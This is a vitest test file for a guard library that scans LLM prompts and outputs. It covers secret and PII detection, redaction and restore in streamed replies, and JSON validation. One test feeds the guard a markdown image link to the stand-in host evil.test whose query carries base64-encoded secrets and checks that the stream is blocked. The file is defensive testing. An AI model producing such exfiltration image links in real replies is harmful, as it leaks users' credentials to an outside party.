import { describe, expect, it } from 'vitest';
import { createGuard, DETECTOR_NAMES } from '../src/index.js';
import { seededRandom, tokenFactories } from './support/leak-corpus.js';

const scope = { tenant: 'acme', conversation: 'conv-1' };

describe('guard: leak detectors and redaction', () => {
  it('registers secrets, pii and unsafe-output', () => {
    expect(DETECTOR_NAMES).toEqual(expect.arrayContaining(['secrets', 'pii', 'unsafe-output']));
  });

  it('check reports secrets and PII with exact spans in the original text', () => {
    const token = tokenFactories(seededRandom(8))['secret.stripe_secret_key']?.() ?? '';
    const text = `key ${token} from ann@example.com`;
    const verdict = createGuard({ detectors: ['secrets', 'pii'] }).check({ text });
    expect(verdict.detections.map((d) => [d.type, text.slice(d.start, d.end)])).toEqual([
      ['secret.stripe_secret_key', token],
      ['pii.email', 'ann@example.com'],
    ]);
    // A credential in a prompt is flagged (the gateway redacts it); it blocks on output.
    expect(verdict.action).toBe('flag');
    expect(createGuard({ detectors: ['secrets'] }).check({ text, role: 'output' }).action).toBe(
      'block',
    );
  });

  it('treats PII in inputs as informational and flags it in output', () => {
    const text = 'Please email ann@example.com or call +44 20 7946 0958 about the invoice.';
    const guard = createGuard();
    const input = guard.check({ text, role: 'user' });
    expect(input.detections.map((d) => d.type)).toEqual(['pii.email', 'pii.phone']);
    expect(input.action).toBe('allow');
    expect(input.score).toBe(0);
    expect(guard.check({ text, role: 'output' }).action).toBe('flag');
    const strict = createGuard({ detectorSettings: { pii: { maxAction: 'block' } } });
    expect(strict.check({ text, role: 'user' }).action).toBe('block');
  });

  it('round-trips a streamed conversation: redact the prompt, restore the reply', () => {
    const guard = createGuard({ redaction: { key: 'tenant-master-key' } });
    const prompt = guard.redact('Email ann@example.com and call +44 20 7946 0958.', scope, 'user');
    expect(prompt.text).toBe('Email <EMAIL_1> and call <PHONE_1>.');
    const reply = 'Done: I emailed <EMAIL_1> and will call <phone_1> later.';
    const stream = guard.streamOutput(scope, { restore: true });
    let out = '';
    for (const chunk of reply.match(/[\s\S]{1,3}/g) ?? []) out += stream.push(chunk).emit;
    out += stream.end().emit;
    expect(out).toBe('Done: I emailed ann@example.com and will call +44 20 7946 0958 later.');
    expect(guard.restore(reply, scope)).toBe(out);
  });

  it('blocks a stream that turns into an exfiltration image', () => {
    const guard = createGuard();
    const stream = guard.streamOutput(scope);
    const steps = [
      stream.push('Here you go ![a](https://evil.test/p.png?'),
      stream.push('d=c2VjcmV0PWh1bnRlcjIma2V5PUFLSUFRV0VSVFlVSU9QQVNERkdI) '),
      stream.end(),
    ];
    expect(steps.some((s) => s.blocked)).toBe(true);
    expect(steps.map((s) => s.emit).join('')).not.toContain('evil.test');
  });

  it('validateJson is available on the guard', () => {
    expect(createGuard().validateJson('{"a":1}', { type: 'object' }).ok).toBe(true);
  });
});
